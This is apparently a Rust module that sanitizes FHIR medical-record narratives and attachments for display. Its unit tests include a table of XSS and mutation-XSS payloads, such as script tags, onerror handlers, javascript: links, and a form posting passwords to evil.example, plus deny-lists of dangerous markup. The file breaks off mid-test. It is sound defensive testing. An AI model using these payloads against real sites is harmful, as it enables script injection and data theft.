//! What a record says in words, made safe to show: the resource's XHTML narrative (`text.div`),
//! a Composition's sections (titles and narratives, nested sections too), and the textual
//! attachments of a DocumentReference (`content[].attachment`) or a DiagnosticReport
//! (`presentedForm[]`).
//!
//! Nothing here loads or runs anything. HTML (a narrative, a `text/html` or
//! `application/xhtml+xml` attachment) goes through [`sanitize`] — ammonia (html5ever's HTML
//! parser) with an allow-list of structural and formatting elements ([`ALLOWED_TAGS`]) and
//! attributes ([`ALLOWED_ATTRIBUTES`]): no `style`, `class`, `id`, event handlers, URLs of any
//! kind, images, frames, SVG, forms or scripts. Only that output is ever given to the window as
//! HTML (`view`, `Html::from_html_unchecked`). Plain text attachments are shown as text (the
//! window escapes them); any other attachment (PDF, images, a `url` elsewhere) is named, never
//! fetched. Pure apart from the view, so it is unit-tested natively, hostile input included.

use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine as _;
use serde_json::Value;
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use std::sync::OnceLock;

/// Largest narrative or decoded attachment shown, in bytes (2 MiB); larger ones are named only.
pub const MAX_SHOWN_BYTES: usize = 2 * 1024 * 1024;
/// Composition sections deeper than this are not shown (their parents are).
const MAX_SECTION_DEPTH: usize = 8;

/// The elements a narrative keeps: FHIR narrative's structure and formatting, nothing that
/// loads, links, runs or styles.
pub const ALLOWED_TAGS: &[&str] = &[
    "p", "div", "span", "br", "hr", "b", "i", "em", "strong", "u", "small", "sub", "sup", "code", "pre", "blockquote", "h1", "h2", "h3", "h4",
    "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "col", "colgroup",
];

/// The attributes kept, each on these elements only (values are checked too: numbers for the
/// spans, a language tag for `lang`, `ltr`/`rtl`/`auto` for `dir`).
pub const ALLOWED_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("colspan", &["td", "th"]),
    ("rowspan", &["td", "th"]),
    ("span", &["col", "colgroup"]),
    ("lang", ALLOWED_TAGS),
    ("dir", ALLOWED_TAGS),
];

/// Elements dropped together with everything inside them (the others not allowed are
/// unwrapped: their text stays, as text).
pub const DROPPED_WITH_CONTENT: &[&str] = &[
    "script", "style", "title", "template", "noscript", "noembed", "noframes", "iframe", "frame", "frameset", "object", "embed", "applet",
    "svg", "math", "canvas", "head", "textarea", "xmp", "plaintext",
];

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static BUILDER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut per_tag: HashMap<&'static str, HashSet<&'static str>> = HashMap::new();
        for (attr, tags) in ALLOWED_ATTRIBUTES {
            for tag in *tags {
                per_tag.entry(*tag).or_default().insert(*attr);
            }
        }
        let mut b = ammonia::Builder::empty();
        b.tags(ALLOWED_TAGS.iter().copied().collect())
            .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
            .generic_attributes(HashSet::new())
            .generic_attribute_prefixes(HashSet::new())
            .tag_attributes(per_tag)
            .tag_attribute_values(HashMap::new())
            .set_tag_attribute_values(HashMap::new())
            .allowed_classes(HashMap::new())
            .url_schemes(HashSet::new())
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(None)
            .id_prefix(None)
            .strip_comments(true)
            .attribute_filter(|_element, attribute, value| attribute_value(attribute, value).map(Cow::Borrowed));
        b
    })
}

/// An allowed attribute's value when it is well-formed; `None` drops the attribute.
fn attribute_value<'a>(attribute: &str, value: &'a str) -> Option<&'a str> {
    let value = value.trim();
    let ok = match attribute {
        "colspan" | "rowspan" | "span" => value.parse::<u16>().is_ok_and(|n| (1..=1000).contains(&n)),
        "lang" => (1..=35).contains(&value.len()) && value.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'),
        "dir" => matches!(value.to_ascii_lowercase().as_str(), "ltr" | "rtl" | "auto"),
        _ => false,
    };
    ok.then_some(value)
}

/// Safe HTML from untrusted HTML or XHTML: only [`ALLOWED_TAGS`] and [`ALLOWED_ATTRIBUTES`],
/// comments dropped, the content of [`DROPPED_WITH_CONTENT`] dropped, all text escaped;
/// `None` when the HTML is too complex to parse quickly ([`too_complex`]).
pub fn sanitize(html: &str) -> Option<String> {
    (!too_complex(html)).then(|| sanitizer().clean(html).to_string())
}

/// Most start tags HTML may have to be shown (a table of 5,000 rows has about 20,000).
const MAX_TAGS: usize = 20_000;
/// Deepest nesting HTML may reach to be shown, as [`too_complex`] estimates it (narratives
/// nest a few levels).
const MAX_DEPTH: usize = 128;
/// Elements without content (they never nest).
const VOID: &[&str] = &["area", "base", "br", "col", "embed", "hr", "img", "input", "keygen", "link", "meta", "param", "source", "track", "wbr"];
/// Elements whose start tag closes an open one of the same name (optional end tags).
const SIBLINGS: &[&str] = &["p", "li", "dt", "dd", "tr", "td", "th", "thead", "tbody", "tfoot", "option", "optgroup", "colgroup", "caption", "rt", "rp"];

/// Whether HTML has more than [`MAX_TAGS`] start tags or nests deeper than [`MAX_DEPTH`]
/// (estimated from its tags: unclosed elements count, but for optional end tags like `<li>`).
/// An HTML parser's work grows with the square of the nesting depth (it checks the open
/// elements for each start tag) and of the elements moved out of a table (each is inserted
/// before the table): 400,000 nested `<div>`s (2 MiB) would hold the window for minutes. At
/// both limits the worst narratives found cost about 0.1 s to clean (native, release build).
fn too_complex(html: &str) -> bool {
    let b = html.as_bytes();
    let mut open: HashMap<String, usize> = HashMap::new();
    let (mut tags, mut depth, mut i) = (0usize, 0usize, 0usize);
    while let Some(k) = b[i..].iter().position(|&c| c == b'<') {
        i += k + 1;
        let end = b.get(i) == Some(&b'/');
        let from = i + usize::from(end);
        if !b.get(from).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let len = b[from..].iter().take_while(|c| !c.is_ascii_whitespace() && **c != b'/' && **c != b'>').count();
        // (Both ends are next to ASCII bytes, so this is a whole UTF-8 string.)
        let name = html[from..from + len].to_ascii_lowercase();
        let sibling = SIBLINGS.contains(&name.as_str());
        let void = VOID.contains(&name.as_str());
        let n = open.entry(name).or_default();
        if end {
            if *n > 0 {
                *n -= 1;
                depth -= 1;
            }
            continue;
        }
        tags += 1;
        // A void element never nests; `<li>` while an `<li>` is open is (usually) its sibling.
        let nests = !void && (*n == 0 || !sibling);
        if nests {
            *n += 1;
            depth += 1;
        }
        if tags > MAX_TAGS || depth > MAX_DEPTH {
            return true;
        }
    }
    false
}

/// Whether sanitized HTML has any text to read (not only tags and white space).
fn has_text(safe_html: &str) -> bool {
    let mut in_tag = false;
    for c in safe_html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag && !c.is_whitespace() => return true,
            _ => {}
        }
    }
    false
}

/// One thing to show, in the record's order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    /// Sanitized HTML (a narrative): the only thing given to the window as HTML.
    Html(Rc<str>),
    /// A narrative not shown: larger than [`MAX_SHOWN_BYTES`] or too complex.
    NotShown(Why),
    /// A short plain-text field (`DocumentReference.description`, `DiagnosticReport.conclusion`),
    /// with the key of its label in `i18n_record`.
    Field { label: &'static str, text: String },
    /// A Composition section: its title (plain text) and what it holds.
    Section { title: Option<String>, parts: Vec<Part> },
    /// An attachment: what it is and whether it is shown.
    Attachment(Attachment),
}

/// An attachment as its record describes it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attachment {
    pub title: Option<String>,
    /// The media type as written (`text/plain; charset=utf-8`).
    pub content_type: Option<String>,
    /// The size in bytes: decoded when there is data, else as the record declares it.
    pub size: Option<u64>,
    pub content: Content,
}

/// An attachment's content, or why it is not shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    /// Plain text, shown as text (preformatted, escaped by the window).
    Text(String),
    /// Sanitized HTML (from `text/html` or `application/xhtml+xml`).
    Html(Rc<str>),
    NotShown(Why),
}

/// Why an attachment is not shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Why {
    /// A type Techo does not show (PDF, images, …).
    Type,
    /// Only a `url`: the document lives elsewhere and is never fetched.
    Elsewhere,
    /// Neither data nor a url.
    Empty,
    /// Larger than [`MAX_SHOWN_BYTES`].
    TooLarge,
    /// HTML with too many or too deeply nested elements ([`sanitize`]).
    TooComplex,
    /// The `data` is not valid base64.
    BadBase64,
    /// Text that is not valid UTF-8.
    NotUtf8,
}

/// What to show of a resource (its JSON as the shell sends it); empty when there is nothing
/// to read or the JSON cannot be read.
pub fn of_json(json: &str) -> Vec<Part> {
    match serde_json::from_str::<Value>(json) {
        Ok(resource) => of_resource(&resource),
        Err(_) => Vec::new(),
    }
}

/// What to show of a resource: its narrative, then (by type) its sections, fields and
/// attachments.
pub fn of_resource(resource: &Value) -> Vec<Part> {
    let mut parts = Vec::new();
    parts.extend(narrative(resource));
    match resource.get("resourceType").and_then(Value::as_str) {
        Some("Composition") => parts.extend(sections(resource, 0)),
        Some("DocumentReference") => {
            parts.extend(field(resource, "description", "narrative.description"));
            for content in array(resource, "content") {
                if let Some(a) = content.get("attachment") {
                    parts.push(Part::Attachment(attachment(a)));
                }
            }
        }
        Some("DiagnosticReport") => {
            parts.extend(field(resource, "conclusion", "narrative.conclusion"));
            parts.extend(array(resource, "presentedForm").map(|a| Part::Attachment(attachment(a))));
        }
        _ => {}
    }
    parts
}

fn array<'a>(v: &'a Value, key: &str) -> impl Iterator<Item = &'a Value> {
    v.get(key).and_then(Value::as_array).into_iter().flatten()
}

fn text_of(v: &Value, key: &str) -> Option<String> {
    v.get(key).and_then(Value::as_str).map(str::trim).filter(|s| !s.is_empty()).map(str::to_string)
}

fn field(v: &Value, key: &str, label: &'static str) -> Option<Part> {
    text_of(v, key).map(|text| Part::Field { label, text })
}

/// `text.div` of a resource or a section, sanitized; nothing when it has no text.
fn narrative(v: &Value) -> Option<Part> {
    let div = v.get("text")?.get("div")?.as_str()?;
    if div.len() > MAX_SHOWN_BYTES {
        return Some(Part::NotShown(Why::TooLarge));
    }
    match sanitize(div) {
        None => Some(Part::NotShown(Why::TooComplex)),
        Some(safe) => has_text(&safe).then(|| Part::Html(safe.into())),
    }
}

/// A Composition's (or a section's) sections, in order, nested ones inside their parents.
fn sections(v: &Value, depth: usize) -> Vec<Part> {
    if depth >= MAX_SECTION_DEPTH {
        return Vec::new();
    }
    array(v, "section")
        .filter_map(|s| {
            let title = text_of(s, "title");
            let mut parts: Vec<Part> = narrative(s).into_iter().collect();
            parts.extend(sections(s, depth + 1));
            (title.is_some() || !parts.is_empty()).then_some(Part::Section { title, parts })
        })
        .collect()
}

/// The media type alone, lower-case: `text/plain; charset=utf-8` → `text/plain`.
fn media_type(content_type: &str) -> String {
    content_type.split(';').next().unwrap_or("").trim().to_ascii_lowercase()
}

/// FHIR's base64Binary: standard alphabet, padding optional, line breaks allowed.
const BASE64: GeneralPurpose =
    GeneralPurpose::new(&base64::alphabet::STANDARD, GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent));

fn attachment(a: &Value) -> Attachment {
    let content_type = text_of(a, "contentType");
    let declared = a.get("size").and_then(|s| s.as_u64().or_else(|| s.as_str().and_then(|s| s.trim().parse().ok())));
    let mut out = Attachment { title: text_of(a, "title"), content_type: content_type.clone(), size: declared, content: Content::NotShown(Why::Empty) };
    let kind = match media_type(content_type.as_deref().unwrap_or("")).as_str() {
        "text/plain" => Some(false),
        "text/html" | "application/xhtml+xml" => Some(true),
        _ => None,
    };
    let data = a.get("data").and_then(Value::as_str);
    let has_url = a.get("url").and_then(Value::as_str).is_some_and(|u| !u.trim().is_empty());
    out.content = match (data, kind) {
        (None, _) if has_url => Content::NotShown(Why::Elsewhere),
        (None, _) => Content::NotShown(Why::Empty),
        (Some(_), None) => Content::NotShown(Why::Type),
        (Some(data), Some(is_html)) => match decode(data) {
            Err(why) => Content::NotShown(why),
            Ok(bytes) => {
                out.size = Some(bytes.len() as u64);
                match String::from_utf8(bytes) {
                    Err(_) => Content::NotShown(Why::NotUtf8),
                    Ok(text) => {
                        let text = text.strip_prefix('\u{feff}').map(str::to_string).unwrap_or(text);
                        if is_html {
                            sanitize(&text).map_or(Content::NotShown(Why::TooComplex), |safe| Content::Html(safe.into()))
                        } else {
                            Content::Text(text)
                        }
                    }
                }
            }
        },
    };
    if matches!(out.content, Content::NotShown(Why::Type | Why::TooLarge)) {
        // Not decoded: its size from the data's length when the record does not say.
        out.size = out.size.or_else(|| data.map(|d| (d.bytes().filter(|c| !c.is_ascii_whitespace()).count() / 4 * 3) as u64));
    }
    out
}

/// The bytes of base64 `data`, refused before decoding when they would exceed
/// [`MAX_SHOWN_BYTES`].
fn decode(data: &str) -> Result<Vec<u8>, Why> {
    let compact: Vec<u8> = data.bytes().filter(|c| !c.is_ascii_whitespace()).collect();
    if compact.len() / 4 * 3 > MAX_SHOWN_BYTES + 3 {
        return Err(Why::TooLarge);
    }
    let bytes = BASE64.decode(&compact).map_err(|_| Why::BadBase64)?;
    if bytes.len() > MAX_SHOWN_BYTES {
        return Err(Why::TooLarge);
    }
    Ok(bytes)
}

/// A size for people: `512 B`, `12.5 KB`, `3.1 MB` (1 KB = 1,024 bytes).
pub fn size_label(bytes: u64) -> String {
    const KB: f64 = 1024.0;
    let b = bytes as f64;
    if bytes < 1024 {
        format!("{bytes} B")
    } else if b < KB * KB {
        format!("{:.1} KB", b / KB)
    } else {
        format!("{:.1} MB", b / KB / KB)
    }
}

/// An attachment's heading: `Discharge summary (text/plain, 2.1 KB)`; the word for
/// “attachment” when it has no title.
pub fn attachment_label(lang: techo_ipc::Language, a: &Attachment) -> String {
    let title = a.title.clone().unwrap_or_else(|| crate::i18n_record::tr(lang, "narrative.attachment").to_string());
    let facts: Vec<String> = a.content_type.iter().cloned().chain(a.size.map(size_label)).collect();
    if facts.is_empty() {
        title
    } else {
        format!("{title} ({})", facts.join(", "))
    }
}

/// Why an attachment is not shown, in words.
pub fn why_label(lang: techo_ipc::Language, why: Why) -> String {
    use crate::i18n_record::{tr, trf};
    match why {
        Why::Type => tr(lang, "narrative.not_shown_type").to_string(),
        Why::Elsewhere => tr(lang, "narrative.not_shown_url").to_string(),
        Why::Empty => tr(lang, "narrative.empty").to_string(),
        Why::TooLarge => trf(lang, "narrative.not_shown_large", &[&size_label(MAX_SHOWN_BYTES as u64)]),
        Why::TooComplex => tr(lang, "narrative.too_complex").to_string(),
        Why::BadBase64 => tr(lang, "narrative.bad_base64").to_string(),
        Why::NotUtf8 => tr(lang, "narrative.not_utf8").to_string(),
    }
}

/// The detail panel's narrative block; nothing when there is nothing to read.
#[cfg(target_arch = "wasm32")]
pub fn view(lang: techo_ipc::Language, parts: &[Part]) -> yew::Html {
    use crate::i18n_record::tr;
    use yew::prelude::*;
    if parts.is_empty() {
        return html! {};
    }
    html! {
        <section class="narrative-block">
            <h4>{ tr(lang, "narrative.title") }</h4>
            { for parts.iter().map(|p| part_view(lang, p)) }
        </section>
    }
}

/// Sanitized HTML in its container (with the share summary in `share.rs`, made by Techo from
/// escaped structured data, the only `from_html_unchecked` of the app).
#[cfg(target_arch = "wasm32")]
fn safe_html(safe: &Rc<str>) -> yew::Html {
    use yew::prelude::*;
    html! { <div class="narrative">{ Html::from_html_unchecked(AttrValue::from(safe.clone())) }</div> }
}

#[cfg(target_arch = "wasm32")]
fn part_view(lang: techo_ipc::Language, part: &Part) -> yew::Html {
    use crate::i18n_record::tr;
    use yew::prelude::*;
    match part {
        Part::Html(safe) => safe_html(safe),
        Part::NotShown(why) => html! { <p class="muted narrative-note">{ why_label(lang, *why) }</p> },
        Part::Field { label, text } => html! {
            <p class="narrative-field"><strong>{ tr(lang, label) }</strong>{ " " }{ text.clone() }</p>
        },
        Part::Section { title, parts } => html! {
            <section class="narrative-section">
                if let Some(t) = title { <h5>{ t.clone() }</h5> }
                { for parts.iter().map(|p| part_view(lang, p)) }
            </section>
        },
        Part::Attachment(a) => html! {
            <div class="narrative-attachment">
                <h5>{ attachment_label(lang, a) }</h5>
                { match &a.content {
                    // Text, not HTML: the window escapes it.
                    Content::Text(text) => html! { <pre class="narrative-text">{ text.clone() }</pre> },
                    Content::Html(safe) => safe_html(safe),
                    Content::NotShown(why) => html! { <p class="muted narrative-note">{ why_label(lang, *why) }</p> },
                } }
            </div>
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use techo_ipc::Language::{En, Ja};

    fn clean(html: &str) -> String {
        sanitize(html).expect("simple enough")
    }

    /// Every tag of sanitized HTML with its attributes. In the sanitizer's output every `<`
    /// outside an attribute value opens a tag (text has `&lt;`), so this sees all of them.
    fn tags(safe: &str) -> Vec<(String, Vec<(String, String)>)> {
        let mut out = Vec::new();
        let mut rest = safe;
        while let Some(i) = rest.find('<') {
            rest = &rest[i + 1..];
            let name_len = rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len());
            let name = rest[..name_len].trim_start_matches('/').to_string();
            rest = &rest[name_len..];
            let mut attrs = Vec::new();
            loop {
                rest = rest.trim_start();
                if let Some(r) = rest.strip_prefix('>') {
                    rest = r;
                    break;
                }
                let Some(eq) = rest.find(['=', '>', ' ']) else { panic!("unterminated tag in {safe}") };
                let attr = rest[..eq].to_string();
                rest = &rest[eq..];
                let value = if let Some(r) = rest.strip_prefix("=\"") {
                    let end = r.find('"').expect("a closing quote");
                    rest = &r[end + 1..];
                    r[..end].to_string()
                } else {
                    String::new()
                };
                attrs.push((attr.to_ascii_lowercase(), value));
            }
            out.push((name.to_ascii_lowercase(), attrs));
        }
        out
    }

    /// The output loads, links, runs and styles nothing, whatever the input was.
    fn assert_inert(case: &str, safe: &str) {
        for (tag, attrs) in tags(safe) {
            assert!(ALLOWED_TAGS.contains(&tag.as_str()), "{case}: <{tag}> in {safe}");
            for (attr, value) in attrs {
                let allowed = ALLOWED_ATTRIBUTES.iter().any(|(a, on)| *a == attr && on.contains(&tag.as_str()));
                assert!(allowed, "{case}: {attr}= on <{tag}> in {safe}");
                assert!(!attr.starts_with("on"), "{case}: event handler in {safe}");
                let v = value.to_ascii_lowercase();
                assert!(!v.contains(':') && !v.contains("//") && !v.contains('('), "{case}: a URL-like value {value:?} in {safe}");
            }
        }
        let lower = safe.to_ascii_lowercase();
        for bad in [
            "<script", "<img", "<iframe", "<svg", "<math", "<style", "<object", "<embed", "<base", "<meta", "<link", "<form", "<input", "<a ", "<a>",
            "javascript:", "vbscript:", "data:", "http://", "https://", "src=", "href=", "style=", "class=", "id=", "action=", "<!--", "<![cdata",
        ] {
            assert!(!lower.contains(bad), "{case}: {bad:?} in {safe}");
        }
        // The window parses the output again: it must read the same the second time.
        assert_eq!(clean(safe), safe, "{case}: not stable when parsed again");
    }

    /// Hostile narratives: every one comes out inert. (URLs and `javascript:` appear only in
    /// markup here, so the checks can look for them anywhere in the output.)
    const HOSTILE: &[(&str, &str)] = &[
        ("script", r#"<div xmlns="http://www.w3.org/1999/xhtml"><p>ok</p><script>alert(1)</script></div>"#),
        ("script src", r#"<div><script src="https://evil.example/x.js"></script>ok</div>"#),
        ("img onerror", r#"<div><img src=x onerror="alert(1)">ok</div>"#),
        ("img data uri", r#"<div><img src="data:image/png;base64,AAAA">ok</div>"#),
        ("a javascript", r#"<div><a href="javascript:alert(1)">click</a></div>"#),
        ("a entity-encoded javascript", r#"<div><a href="javascript&#58;alert(1)">click</a><a href="&#106;avascript:alert(1)">two</a><a href="jav&#x09;ascript:alert(1)">three</a></div>"#),
        ("a http", r#"<div><a href="http://evil.example/track" target="_blank">site</a></div>"#),
        ("iframe", r#"<div><iframe src="https://evil.example/"></iframe>ok</div>"#),
        ("iframe srcdoc", r#"<div><iframe srcdoc="<script>alert(1)</script>"></iframe>ok</div>"#),
        ("svg onload", r#"<div><svg onload="alert(1)"><circle r="4"/></svg>ok</div>"#),
        ("svg script and use", r#"<svg><script>alert(1)</script><use href="https://evil.example/x.svg#a"/></svg>ok"#),
        ("math", r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>ok"#),
        ("style import", r#"<div><style>@import url(http://evil.example/x.css); p{color:red}</style><p>ok</p></div>"#),
        ("style attribute", r#"<div><p style="background:url(http://evil.example/beacon.png)">ok</p></div>"#),
        ("base", r#"<base href="http://evil.example/"><div>ok</div>"#),
        ("meta refresh", r#"<meta http-equiv="refresh" content="0;url=http://evil.example/"><div>ok</div>"#),
        ("link stylesheet", r#"<link rel="stylesheet" href="https://evil.example/x.css"><div>ok</div>"#),
        ("object data", r#"<object data="http://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="x.swf">fallback</object>ok"#),
        ("embed", r#"<embed src="http://evil.example/x.swf">ok"#),
        ("form action", r#"<form action="http://evil.example/steal" method="post"><input name="p" type="password"><button formaction="http://evil.example/">Send</button></form>"#),
        ("event handlers", r#"<div onclick="alert(1)" onmouseover="alert(2)"><p onfocus="x()" tabindex="1">ok</p><b ONCLICK=alert(3)>b</b></div>"#),
        ("class id style", r#"<div class="detail" id="app"><span class="x" style="position:fixed;top:0" title="http://evil.example/">ok</span></div>"#),
        ("mixed case", r#"<DIV><ScRiPt>alert(1)</sCrIpT><IMG SRC=x OnErRoR=alert(1)><P>ok</P><IfRaMe SrC="https://evil.example/"></IfRaMe></DIV>"#),
        ("unclosed", r#"<div><p>ok<b>bold<table><tr><td>cell<script>alert(1)"#),
        ("unclosed attribute", r#"<div><p title="x>ok</p><img src=x onerror=alert(1)//"#),
        ("comment hiding script", r#"<div><!--<script>alert(1)</script>-->ok<!--[if IE]><script>alert(2)</script><![endif]--></div>"#),
        ("comment breakout", r#"<div><!-- --!><img src=x onerror=alert(1)> -->ok</div>"#),
        ("cdata", r#"<div><![CDATA[<script>alert(1)</script>]]>ok</div>"#),
        ("noscript mxss", r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">ok"#),
        ("textarea mxss", r#"<div><textarea><img src=x onerror=alert(1)></textarea>ok</div>"#),
        ("template", r#"<template><img src=x onerror=alert(1)></template>ok"#),
        ("xmp", r#"<xmp><img src=x onerror=alert(1)></xmp>ok"#),
        ("video and audio", r#"<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png">v</video><audio src="http://evil.example/a.mp3"></audio>ok"#),
        ("picture srcset", r#"<picture><source srcset="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x"></picture>ok"#),
        ("table background", r#"<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/td.png">ok</td></tr></table>"#),
        ("lang dir values", r#"<p lang="ja&quot; onclick=&quot;x" dir="javascript:alert(1)">ok</p><td colspan="http://evil.example/">x</td>"#),
        ("xlink", r#"<div xmlns:xlink="http://www.w3.org/1999/xlink"><span xlink:href="javascript:alert(1)">ok</span></div>"#),
        ("processing instruction", r#"<?xml-stylesheet href="http://evil.example/x.xsl"?><div>ok</div>"#),
        ("doctype entity", r#"<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/">]><div>ok &e;</div>"#),
        ("nested dropped", r#"<div><object><iframe><script>alert(1)</script></iframe></object>ok</div>"#),
        ("nul", "<div>o\u{0}k<scr\u{0}ipt>alert(1)</scr\u{0}ipt><img\u{0} src=x onerror=alert(1)></div>"),
    ];

    #[test]
    fn hostile_narratives_come_out_inert() {
        for (case, input) in HOSTILE {
            let out = clean(input);
            assert_inert(case, &out);
            // The words stay (but for an attribute left open to the end, which swallows them).
            let words = ["ok", "click", "site", "Send"];
            assert!(words.iter().any(|w| out.contains(w)) || *case == "unclosed attribute", "{case}: the text is lost: {out}");
        }
    }

    #[test]
    fn script_and_style_text_is_dropped_not_shown() {
        for (case, input) in HOSTILE {
            let out = clean(input);
            // (A CDATA section is not markup in HTML: what follows its `<![CDATA[<script>` is text;
            // `<scr\0ipt>` is an unknown element, not a script: unwrapped, its words are text.)
            assert!(!out.contains("alert(") || ["cdata", "nul"].contains(case), "{case}: {out}");
            assert!(!out.contains("color:red") && !out.contains("@import"), "{case}: {out}");
        }
        assert_eq!(clean("<div><script>alert(1)</script><style>p{}</style><p>ok</p></div>"), "<div><p>ok</p></div>");
        // Markup that is text stays text: escaped, never a tag.
        // (HTML reads `<![CDATA[<b>` as a comment, dropped; the rest is text.)
        assert_eq!(clean("<div><![CDATA[<b>x</b>]]></div>"), "<div>x]]&gt;</div>");
        assert_eq!(clean("<p>1 &lt; 2 &amp;&amp; &lt;img src=x&gt;</p>"), "<p>1 &lt; 2 &amp;&amp; &lt;img src=x&gt;</p>");
    }

    #[test]
    fn deep_or_huge_html_is_refused_before_parsing() {
        // 2 MiB of nested blocks would hold an HTML parser for minutes (its scope checks grow
        // with the square of the depth): refused at once instead.
        for tag in ["<div>", "<ul>", "<blockquote>", "<dl><dd>", "<b><div></b>", "<a><div></a>", "<x>", "<li><ul>", "<DIV >", "<p><div>"] {
            let html = tag.repeat(MAX_SHOWN_BYTES / tag.len());
            assert_eq!(sanitize(&html), None, "{tag}");
            assert!(too_complex(&tag.repeat(MAX_DEPTH + 1)), "{tag}");
        }
        assert!(too_complex(&"<br>".repeat(MAX_TAGS + 1)));
        // Ordinary large narratives pass: long tables, many line breaks, unclosed `<p>`, `<li>`,
        // `<tr>` and `<td>` (HTML lets them go unclosed), end tags without start tags.
        let rows: String = (0..4_000).map(|i| format!("<tr><td>{i}</td><td>値</td><td>x</td></tr>")).collect();
        assert!(!too_complex(&format!("<div><table><tbody>{rows}</tbody></table></div>")));
        assert!(!too_complex(&format!("<div>{}</div>", "行<br/>".repeat(15_000))));
        assert!(!too_complex(&format!("<ul>{}</ul><table>{}</table>", "<li>a".repeat(2_000), "<tr><td>a<td>b".repeat(2_000))));
        assert!(!too_complex(&format!("{}{}", "<p>a".repeat(2_000), "</div></span>".repeat(2_000))));
        let out = clean(&format!("<div>{}</div>", "<p>段落".repeat(1_000)));
        assert_eq!(out.matches("<p>").count(), 1_000);
        // Depth below the limit is parsed.
        let deep = clean(&format!("{}deep", "<div>".repeat(MAX_DEPTH)));
        assert!(deep.contains("<div><div>deep</div></div>"), "{}", &deep[deep.len() - 200..]);
    }

    #[test]
    fn links_become_plain_text() {
        assert_eq!(clean(r#"<p>See <a href="https://example.org/x">the leaflet</a>.</p>"#), "<p>See the leaflet.</p>");
        assert_eq!(clean(r#"<p><a name="top" href="javascript&#58;alert(1)">top</a></p>"#), "<p>top</p>");
    }

    #[test]
    fn normal_content_survives() {
        let div = r#"<div xmlns="http://www.w3.org/1999/xhtml" lang="ja">
<h2>退院時サマリー</h2>
<p>診断: <b>高血圧症</b>、<em>2 型糖尿病</em><br/>経過は<strong>良好</strong>。H<sub>2</sub>O, m<sup>2</sup>, <u>下線</u>, <i>i</i>, <small>注</small>, <code>I10</code></p>
<table><caption>検査結果</caption><colgroup span="2"><col/></colgroup><thead><tr><th>項目</th><th>値</th></tr></thead>
<tbody><tr><td>HbA1c</td><td>6.8 %</td></tr><tr><td colspan="2" rowspan="1">備考 &lt;なし&gt; &amp; 以上</td></tr></tbody><tfoot><tr><td>計</td><td>2</td></tr></tfoot></table>
<ul><li>降圧薬</li></ul><ol><li>一</li></ol><dl><dt>用語</dt><dd>説明</dd></dl><blockquote>引用</blockquote><pre>  整形済み</pre><hr/><span dir="ltr">span</span>
</div>"#;
        let out = clean(div);
        assert_inert("normal", &out);
        for kept in [
            "<div lang=\"ja\">", "<h2>退院時サマリー</h2>", "<b>高血圧症</b>", "<em>2 型糖尿病</em><br>", "<strong>良好</strong>", "<sub>2</sub>", "<sup>2</sup>", "<u>下線</u>",
            "<i>i</i>", "<small>注</small>", "<code>I10</code>", "<table><caption>検査結果</caption><colgroup span=\"2\"><col></colgroup><thead><tr><th>項目</th>",
            "<td colspan=\"2\" rowspan=\"1\">備考 &lt;なし&gt; &amp; 以上</td>", "<tfoot>", "<ul><li>降圧薬</li></ul>", "<ol><li>一</li></ol>",
            "<dl><dt>用語</dt><dd>説明</dd></dl>", "<blockquote>引用</blockquote>", "<pre>  整形済み</pre>", "<hr>", "<span dir=\"ltr\">span</span>",
        ] {
            assert!(out.contains(kept), "{kept:?} is lost: {out}");
        }
        assert!(!out.contains("xmlns"), "{out}");
    }

    #[test]
    fn attribute_values_are_checked() {
        assert_eq!(clean(r#"<table><tr><td colspan="3" rowspan="0">a</td><th colspan=" 2 ">b</th></tr></table>"#), r#"<table><tbody><tr><td colspan="3">a</td><th colspan="2">b</th></tr></tbody></table>"#);
        assert_eq!(clean(r#"<p lang="en-GB" dir="RTL">a</p><p lang="e n" dir="up">b</p>"#), r#"<p lang="en-GB" dir="RTL">a</p><p>b</p>"#);
        // Only on the elements they belong to.
        assert_eq!(clean(r#"<p colspan="2" span="3">a</p>"#), "<p>a</p>");
    }

    #[test]
    fn empty_and_whitespace_narratives_show_nothing() {
        assert!(of_resource(&json!({"resourceType": "Condition", "text": {"status": "empty", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\">\n  <p> </p></div>"}})).is_empty());
        assert!(of_resource(&json!({"resourceType": "Condition", "text": {"div": "<div><script>alert(1)</script><img src=x></div>"}})).is_empty());
        assert!(of_resource(&json!({"resourceType": "Condition"})).is_empty());
        assert!(of_json("not json {").is_empty());
        assert!(of_json("[1, 2]").is_empty());
    }

    #[test]
    fn a_resource_narrative_is_sanitized() {
        let parts = of_json(r#"{"resourceType": "Condition", "text": {"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p onclick=\"x()\">高血圧症</p><script>alert(1)</script></div>"}}"#);
        assert_eq!(parts, vec![Part::Html("<div><p>高血圧症</p></div>".into())]);
    }

    #[test]
    fn composition_sections_in_order_nested_too() {
        let c = json!({
            "resourceType": "Composition",
            "title": "退院時サマリー",
